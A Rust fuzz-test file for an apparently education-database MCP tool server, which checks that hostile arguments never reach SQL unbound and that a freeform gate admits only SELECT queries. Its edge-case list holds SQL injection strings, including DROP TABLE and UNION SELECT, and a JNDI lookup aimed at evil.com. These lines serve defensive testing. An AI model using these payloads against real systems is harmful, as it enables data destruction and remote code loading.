//! Black-box fuzzing of tool arguments.
//!
//! Random, malicious and edge-case values are fed to every tool. Calls must
//! never panic, always produce one text block, and caller text must only
//! reach the statement through bound parameters or the freeform gate.

mod common;

use common::{RecordingGateway, dispatcher, is_error, text};
use edu_db_mcp::models::QueryParam;
use edu_db_mcp::tools::catalog;
use rand::Rng;
use rand::distributions::Alphanumeric;
use serde_json::{Value as JsonValue, json};

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "🚀".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "role; DROP TABLE users".to_string(),
        "%".to_string(),
        "_".to_string(),
        "a".repeat(10000),
        random_string(100),
        "\u{0000}\u{FFFF}".to_string(),
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "-1".to_string(),
        "1e309".to_string(),
        "NaN".to_string(),
    ]
}

fn edge_case_values() -> Vec<JsonValue> {
    let mut values: Vec<JsonValue> = edge_case_strings().into_iter().map(JsonValue::from).collect();
    values.extend([
        JsonValue::Null,
        json!(true),
        json!(0),
        json!(-1),
        json!(i64::MAX),
        json!(u64::MAX),
        json!(1.5e300),
        json!([1, 2, 3]),
        json!({"nested": "object"}),
    ]);
    values
}

#[tokio::test]
async fn fuzz_every_parameter_of_every_tool() {
    let (dispatcher, _gateway) = dispatcher(RecordingGateway::empty());

    for tool in catalog::catalog() {
        for param in tool.params {
            for value in edge_case_values() {
                let mut call = serde_json::Map::new();
                call.insert(param.name.to_string(), value.clone());
                let result = dispatcher.call_tool(tool.name, &call).await;
                assert_eq!(result.content.len(), 1, "{}.{}", tool.name, param.name);
            }
        }
    }
}

#[tokio::test]
async fn fuzz_filter_values_are_never_interpolated() {
    let (dispatcher, gateway) = dispatcher(RecordingGateway::empty());

    for value in edge_case_strings() {
        // Short fragments like "_" legitimately occur in column names.
        if value.trim().len() < 3 {
            continue;
        }
        let mut call = serde_json::Map::new();
        call.insert("role".to_string(), json!(value));
        dispatcher.call_tool(catalog::LISTAR_USUARIOS, &call).await;

        let plan = gateway.last_plan();
        assert!(!plan.sql.contains(&value), "value leaked into SQL: {}", value);
        assert_eq!(plan.params[0], QueryParam::from(value.as_str()));
    }
}

#[tokio::test]
async fn fuzz_grouping_column_only_accepts_allow_list() {
    let (dispatcher, gateway) = dispatcher(RecordingGateway::empty());

    for value in edge_case_strings() {
        let mut call = serde_json::Map::new();
        call.insert("campo".to_string(), json!(value));
        let result = dispatcher.call_tool(catalog::CONTAR_POR_GRUPO, &call).await;
        assert!(is_error(&result));
        assert!(text(&result).starts_with("invalid grouping column:"));
    }
    assert!(gateway.plans().is_empty());
}

#[tokio::test]
async fn fuzz_freeform_gate() {
    let (dispatcher, gateway) = dispatcher(RecordingGateway::empty());

    for value in edge_case_strings() {
        let mut call = serde_json::Map::new();
        call.insert("query".to_string(), json!(value));
        let result = dispatcher
            .call_tool(catalog::EXECUTAR_QUERY_CUSTOMIZADA, &call)
            .await;
        assert_eq!(text(&result), "only SELECT queries are permitted");
    }
    assert!(gateway.plans().is_empty());
}

#[tokio::test]
async fn fuzz_random_tool_names() {
    let (dispatcher, gateway) = dispatcher(RecordingGateway::empty());
    let mut rng = rand::thread_rng();

    for _ in 0..100 {
        let name = random_string(rng.gen_range(1..40));
        let result = dispatcher.call_tool(&name, &serde_json::Map::new()).await;
        assert!(is_error(&result));
        assert_eq!(text(&result), format!("unknown tool: {}", name));
    }
    assert!(gateway.plans().is_empty());
}

#[tokio::test]
async fn fuzz_limit_values() {
    let (dispatcher, gateway) = dispatcher(RecordingGateway::empty());

    for value in edge_case_values() {
        let mut call = serde_json::Map::new();
        call.insert("limit".to_string(), value.clone());
        let result = dispatcher.call_tool(catalog::LISTAR_CURSOS, &call).await;
        assert!(!is_error(&result));

        let plan = gateway.last_plan();
        assert!(matches!(plan.params.last(), Some(QueryParam::Int(_))));
    }
}
